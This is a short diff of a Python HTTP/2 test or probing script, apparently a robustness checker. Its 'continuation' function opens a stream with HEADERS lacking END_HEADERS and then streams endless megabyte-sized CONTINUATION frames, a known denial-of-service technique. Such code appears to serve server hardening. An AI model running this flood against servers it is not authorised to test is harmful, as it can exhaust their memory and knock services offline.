@@ -141,14 +141,16 @@ def continuation(
     sock: ssl.SSLSocket, conn: h2.connection.H2Connection, target: str, mib: int
 ) -> str:
     block = conn.encoder.encode([(":method", "CONNECT"), (":authority", target)])
-    chunk = b"\x00" * 16384  # the default max frame size: always acceptable as a size
+    chunk = b"\x00" * (1 << 20)  # the frame size the server advertised
     try:
+        ended(sock, conn, 0.5)  # take the server's SETTINGS and acknowledge them
+        sock.sendall(conn.data_to_send())
         sock.sendall(frame(0x1, 0, 1, block))  # HEADERS without END_HEADERS
-        for _ in range(mib * 64):
+        for _ in range(mib):
             sock.sendall(frame(0x9, 0, 1, chunk))  # CONTINUATION, never the last one
     except OSError:
         return "closed"
-    return ended(sock, conn, 10)
+    return ended(sock, conn, 15)
 
 
 def oversized_frame(sock: ssl.SSLSocket, conn: h2.connection.H2Connection, wait: float) -> str:
